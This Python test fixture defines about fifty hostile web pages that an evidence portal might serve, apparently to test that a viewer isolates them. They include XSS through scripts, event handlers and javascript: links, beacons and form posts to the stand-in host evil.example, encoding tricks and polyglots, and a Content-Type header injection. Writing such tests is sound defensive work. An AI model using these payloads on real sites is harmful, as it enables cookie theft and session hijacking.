"""Pages that a portal might send to attack whoever looks at the evidence: bytes, and the type that was kept."""

from __future__ import annotations

import base64

OUT = "http://evil.example"
RUN = f"window.ran=1;top.location='{OUT}/top';document.cookie='a=b';alert(1);fetch('{OUT}/fetch')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{OUT}/i.png"/></svg>'
SVG_64 = base64.b64encode(SVG.encode()).decode()
HTML = "text/html; charset=utf-8"


def _page(body: str) -> bytes:
    return f'<!doctype html><meta charset="utf-8"><title>t</title>{body}<p id="end">正文</p>'.encode()


# Name: bytes, media type as kept. What has the id "click" is clicked.
ATTACKS: dict[str, tuple[bytes, str]] = {
    "inline-script": (_page(f"<script>{RUN}</script>"), HTML),
    "external-script": (_page(f'<script src="{OUT}/x.js"></script><script src="/static/desk.js"></script>'), HTML),
    "module": (_page(f'<script type="module">import "{OUT}/m.js";{RUN}</script>'), HTML),
    "speculation": (
        _page(f'<script type="speculationrules">{{"prerender":[{{"urls":["{OUT}/s","/account"]}}]}}</script>'),
        HTML,
    ),
    "handlers": (
        _page(f'<img src="x" onerror="{RUN}"><body onload="{RUN}"><svg onload="{RUN}"></svg>'
            f'<details open ontoggle="{RUN}">'),
        HTML,
    ),
    "autofocus": (_page(f'<input autofocus onfocus="{RUN}"><button id="click" onclick="{RUN}">x</button>'), HTML),
    "javascript-link": (_page(f'<a id="click" href="javascript:{RUN}">x</a>'), HTML),
    "link-out": (_page(f'<a id="click" href="{OUT}/l" ping="{OUT}/ping">x</a>'), HTML),
    "link-top": (_page(f'<a id="click" target="_top" href="{OUT}/l">x</a>'), HTML),
    "link-parent-desk": (_page('<a id="click" target="_parent" href="/account">x</a>'), HTML),
    "link-blank": (_page(f'<a id="click" target="_blank" href="{OUT}/l">x</a>'), HTML),
    "link-download": (_page(f'<a id="click" download="a.exe" href="{OUT}/l">x</a>'), HTML),
    "link-scheme": (_page('<a id="click" href="mailto:a@evil.example">x</a>'), HTML),
    "base": (_page(f'<base href="{OUT}/" target="_top"><img src="i.png"><a id="click" href="l">x</a>'), HTML),
    "form": (_page(f'<form action="{OUT}/f" method="post"><button id="click">x</button></form>'), HTML),
    "form-desk": (
        _page('<form action="/sign-out" method="post" target="_top"><button id="click">x</button></form>'),
        HTML,
    ),
    "form-get": (_page(f'<form><input name=a><button id="click" formaction="{OUT}/f">x</button></form>'), HTML),
    "refresh": (_page(f'<meta http-equiv="refresh" content="0;url={OUT}/r">'), HTML),
    "refresh-script": (_page(f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">'), HTML),
    "set-cookie": (_page('<meta http-equiv="set-cookie" content="sitecheck=stolen;path=/">'), HTML),
    "referrer": (_page(f'<meta name="referrer" content="unsafe-url"><a id="click" href="{OUT}/l">x</a>'), HTML),
    "preconnect": (_page(f'<link rel="preconnect" href="{OUT}"><LiNk/rel="&#112;reconnect"href="{OUT}">'), HTML),
    "preconnect-hidden": (
        _page(f"<noscript><link rel=preconnect href={OUT}></noscript>"
            f'<svg><style></svg><link rel="preconnect" href="{OUT}">'),
        HTML,
    ),
    "dns": (
        _page(f'<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="{OUT}">'),
        HTML,
    ),
    "links": (
        _page(
            "".join(
                f'<link rel="{rel}" as="{kind}" href="{OUT}/{kind}">'
                for rel, kind in (
                    ("prefetch", "document"), ("prerender", "document"), ("preload", "image"), ("preload", "fetch"),
                    ("modulepreload", "script"), ("stylesheet", "style"), ("icon", "image"), ("manifest", "manifest"),
                )
            )
        ),
        HTML,
    ),
    "css": (
        _page(
            f'<style>@import "{OUT}/a.css";@font-face{{font-family:f;src:url({OUT}/f.woff)}}'
            f"p{{font-family:f;background:url({OUT}/b.png);cursor:url({OUT}/c.cur),auto;filter:url({OUT}/f.svg#a)}}"
            f'p::after{{content:url({OUT}/d.png)}}</style><p style="background:url({OUT}/e.png)">x'
        ),
        HTML,
    ),
    "media": (
        _page(
            f'<img src="{OUT}/i" srcset="{OUT}/j 2x"><video src="{OUT}/v" poster="{OUT}/p" autoplay></video>'
            f'<audio src="{OUT}/a"></audio><picture><source srcset="{OUT}/s"><img></picture>'
            f'<input type="image" src="{OUT}/b"><table background="{OUT}/t">'
        ),
        HTML,
    ),
    "frames": (
        _page(f'<iframe src="{OUT}/f"></iframe><iframe src="/account"></iframe>'
            f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>'),
        HTML,
    ),
    "srcdoc": (
        _page(f"<iframe srcdoc=\"<script>parent.ran=1;{RUN}</script><img src='{OUT}/i'>\"></iframe>"),
        HTML,
    ),
    "frame-allow": (_page(
            f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{RUN}</script>"></iframe>'
        ), HTML),
    "objects": (
        _page(f'<object data="{OUT}/o"></object><embed src="{OUT}/e">'
            f'<object data="data:text/html,<script>{RUN}</script>"></object>'),
        HTML,
    ),
    "svg-inline": (_page(
            f'{SVG}<svg><use href="{OUT}/u.svg#a"/><a href="javascript:{RUN}"><text>x</text></a></svg>'
        ), HTML),
    "svg-image": (_page(f'<img src="data:image/svg+xml;base64,{SVG_64}">'), HTML),
    "svg-as-page": (SVG.encode(), "image/svg+xml"),
    "svg-as-html": (SVG.encode(), HTML),
    "xhtml": (f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'.encode(),
        "application/xhtml+xml"),
    "xml-style": (f'<?xml-stylesheet href="{OUT}/x.xsl" type="text/xsl"?><a><script>{RUN}</script></a>'.encode(),
        "text/xml"),
    "policy-of-its-own": (
        _page(f'<meta http-equiv="content-security-policy" content="script-src *"><script>{RUN}</script>'),
        HTML,
    ),
    "huge-data": (_page(f'<img src="data:image/svg+xml,{"A" * 10_000_000}"><script>{RUN}</script>'), HTML),
    "utf-7": (_page(f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"), "text/html; charset=utf-7"),
    "iso-2022-jp": (b"<p>\x1b$B</p><script>" + RUN.encode() + b"</script>\x1b(B", "text/html; charset=iso-2022-jp"),
    "utf-16": (b"\xff\xfe" + f"<script>{RUN}</script>".encode("utf-16-le"), "text/html"),
    "utf-16-unmarked": (f"<link rel=preconnect href={OUT}>".encode("utf-16-le"), "text/html; charset=utf-16le"),
    "bom-over-gb": (b"\xef\xbb\xbf" + _page(f"<link rel=preconnect href={OUT}>"), "text/html; charset=gb18030"),
    "nul": (_page(f"<scr\0ipt>{RUN}</script><script\0>{RUN}</script><li\0nk rel=preconnect href={OUT}>"), HTML),
    "pdf": (b"%PDF-1.7\n" + _page(f"<script>{RUN}</script>"), "application/pdf"),
    "pdf-as-html": (b"%PDF-1.7\n" + _page(f"<script>{RUN}</script>"), HTML),
    "zip-as-html": (b"PK\x03\x04" + _page(f"<script>{RUN}</script>"), HTML),
    "gif-as-html": (b"GIF89a/*" + _page(f"<script>{RUN}</script>"), HTML),
    "mail": (b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + _page(f"<script>{RUN}</script>"), "message/rfc822"),
    "archive": (b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + SVG.encode(), "multipart/related"),
    "header-in-type": (_page(f"<script>{RUN}</script>"), "text/html\r\nSet-Cookie: a=b\r\nRefresh: 0;url=" + OUT),
    "no-type": (_page(f"<script>{RUN}</script>"), ""),
}  # fmt: skip
